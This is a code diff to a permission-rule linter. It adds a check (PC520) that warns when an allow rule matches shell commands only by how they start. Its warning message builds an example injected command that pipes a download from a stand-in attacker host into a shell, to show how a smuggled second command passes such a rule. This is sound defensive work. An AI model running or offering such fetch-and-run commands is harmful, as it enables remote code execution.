@@ -30,6 +30,10 @@ interface NameKind {
  * `like` pattern written in another pattern syntax (PC508). They run after both sides of the
  * comparison type-checked, and read the checker's resolutions, never the spelling.
  */
+/** Names of an argument that holds a shell command line (PC520). */
+// Not `shell`: an argument so named holds the shell's program (`/bin/bash`), not a command line.
+const SHELL_COMMAND_ARGUMENTS: ReadonlySet<string> = new Set(["cmd", "command", "script", "commandline", "command_line"]);
+
 export class LiteralComparisonChecks {
   constructor(
     private readonly schema: Schema,
@@ -57,7 +61,9 @@ export class LiteralComparisonChecks {
       if (pattern && this.checkLikeSyntax(pattern, domainHelp ? addressOf : undefined)) return;
       if (pattern && addressOf && domainHelp) this.checkAddressPattern(addressOf.subject, pattern.value, pattern.span, negated, truthTightens);
       if (pattern && left.kind === "string") this.checkUrlText(expr.left, "like", pattern, negated, truthTightens);
-      if (pattern && left.kind === "string") this.checkPathText(expr.left, "like", pattern, negated, truthTightens);
+      // PC517 already says what is wrong with a path's start (`args.cmd like "/bin/*"`): no PC520 on top of it.
+      const pathReported = pattern !== undefined && left.kind === "string" && this.checkPathText(expr.left, "like", pattern, negated, truthTightens);
+      if (pattern && left.kind === "string" && !pathReported && /^[^*]+\*$/.test(pattern.value)) this.checkShellPrefix(expr.left, `${printExpr(expr.left)} like ${JSON.stringify(pattern.value)}`, pattern, negated, truthTightens);
     }
     if (operator === "==" || operator === "!=" || operator === "in") this.checkWholePath(expr, left, right, negated, truthTightens);
     if (operator === "contains" && left.kind === "string") {
@@ -83,7 +89,8 @@ export class LiteralComparisonChecks {
       if (pattern !== undefined) this.checkAddressPattern(object, pattern, literal.span, negated, truthTightens, `${printExpr(object)}.endsWith(${JSON.stringify(literal.value)})`);
     }
     if (method === "startsWith" && objectType.kind === "string") this.checkUrlText(object, "startsWith", literal, negated, truthTightens);
-    if (objectType.kind === "string") this.checkPathText(object, method, literal, negated, truthTightens);
+    const pathReported = objectType.kind === "string" && this.checkPathText(object, method, literal, negated, truthTightens);
+    if (objectType.kind === "string" && method === "startsWith" && !pathReported) this.checkShellPrefix(object, `${printExpr(object)}.startsWith(${JSON.stringify(literal.value)})`, literal, negated, truthTightens);
     const kind = this.nameKindOf(object, objectType);
     if (kind) this.checkNamePiece(kind, literal, method === "startsWith" ? "starts with" : "ends with");
     const call = this.normalizingCallOf(object);
@@ -220,6 +227,26 @@ export class LiteralComparisonChecks {
    * hosts. Where it tightens the rule, matching more is harmless; in an `ask`, `url.host`'s
    * error would send the call to a person, so no rewrite is safe to offer there.
    */
+  /**
+   * PC520: a shell command allowed by how it starts (`args.cmd like "npm *"`,
+   * `args.cmd.startsWith("git ")`): a shell also reads `;`, `&&`, `|` and `$(…)` after it, so
+   * `npm test; curl … | sh` passes (language.md 5.7). Only where the test's holding loosens the
+   * decision, and only for an argument whose name says it is a command.
+   */
+  private checkShellPrefix(subject: A.Expr, written: string, literal: A.StringLiteral, negated: boolean, truthTightens: boolean | undefined): void {
+    if (truthTightens !== false || negated || subject.kind !== "Member" || subject.object.kind !== "NameRef" || subject.object.name !== "args") return;
+    if (!SHELL_COMMAND_ARGUMENTS.has(subject.property.name.toLowerCase())) return;
+    const start = literal.value.replace(/\*$/, "");
+    this.diagnostics.push(
+      diagnostic(
+        "PC520",
+        `\`${written}\` allows every command that starts so, such as ${JSON.stringify(`${start}${start.endsWith(" ") ? "" : " "}x; curl https://evil.example | sh`)}: a shell also runs what follows \`;\`, \`&&\`, \`|\` or \`$(…)\``,
+        literal.span,
+        `allow whole commands, as in \`${printExpr(subject)} in ["npm test", "npm run lint"]\` (language.md section 5.7)`,
+      ),
+    );
+  }
+
   private checkUrlText(subject: A.Expr, test: UrlTextTest, literal: A.StringLiteral, negated: boolean, truthTightens: boolean | undefined): void {
     if (truthTightens !== false) return;
     // `url.host(u).startsWith("https://…")` never holds, and neither does a `lower()`d URL
@@ -256,17 +283,18 @@ export class LiteralComparisonChecks {
    * and escapes it. An end (`endsWith`) and a whole path (`==`, `in`) only where the test tightens
    * the rule: an allow-list of exact paths holds for those paths alone. Not in an `ask`
    * (direction undefined), where `path.normalize`'s error would send the call to a person.
+   * Returns whether it reported.
    */
-  private checkPathText(subject: A.Expr, test: PathTextTest, literal: A.StringLiteral, negated: boolean, truthTightens: boolean | undefined, operator?: "==" | "!=" | "in", list?: A.Expr): void {
-    if (truthTightens === undefined || this.isNormalizedPath(subject)) return;
+  private checkPathText(subject: A.Expr, test: PathTextTest, literal: A.StringLiteral, negated: boolean, truthTightens: boolean | undefined, operator?: "==" | "!=" | "in", list?: A.Expr): boolean {
+    if (truthTightens === undefined || this.isNormalizedPath(subject)) return false;
     // Text looked for anywhere or at the end is as often in a URL or a message as in a path:
     // only where the value is named as a path (`args.path`, `args.file`, `dir`).
-    if ((test === "contains" || test === "endsWith") && !PATH_NAME.test(printExpr(subject))) return;
+    if ((test === "contains" || test === "endsWith") && !PATH_NAME.test(printExpr(subject))) return false;
     const call = this.normalizingCallOf(subject);
-    if (call !== undefined && call !== "lower") return;
+    if (call !== undefined && call !== "lower") return false;
     const loosens = operator === "!=" ? truthTightens : !truthTightens;
     const hole = pathTextHole(test, literal.value, loosens);
-    if (hole === undefined) return;
+    if (hole === undefined) return false;
     const shown = listed(hole.missed.map((candidate) => JSON.stringify(candidate)), "or");
     const message = loosens
       ? `this test reads the path as text, so it also holds for paths outside the folder it names, such as ${shown}, which the file system reads as ${JSON.stringify(hole.readAs)}`
@@ -276,13 +304,14 @@ export class LiteralComparisonChecks {
     const root = rootNameOf(subject);
     if (root.kind === "NameRef" && root.name === "path" && this.resolutions.get(root)?.kind === "local") {
       this.diagnostics.push(diagnostic("PC517", message, literal.span, `rename the variable \`path\`, which hides \`path.normalize\` inside its quantifier, and test \`path.normalize(…)\` of it: ${reads}`));
-      return;
+      return true;
     }
     const rewritten = normalizedTest(test, `path.normalize(${printExpr(subject)})`, literal.value, loosens, operator, list === undefined ? undefined : printExpr(list));
     const written = testText(test, printExpr(subject), JSON.stringify(literal.value), operator, list === undefined ? undefined : printExpr(list));
     const rewrite = negated ? `not ${rewritten.startsWith("(") ? rewritten : `(${rewritten})`}` : rewritten;
     const replaced = negated ? ` for \`not (${written})\`` : "";
     this.diagnostics.push(diagnostic("PC517", message, literal.span, `write \`${rewrite}\`${replaced}: ${reads}`));
+    return true;
   }
 
   /** Whether `expr` is `path.normalize(…)`, or that `lower()`d. */
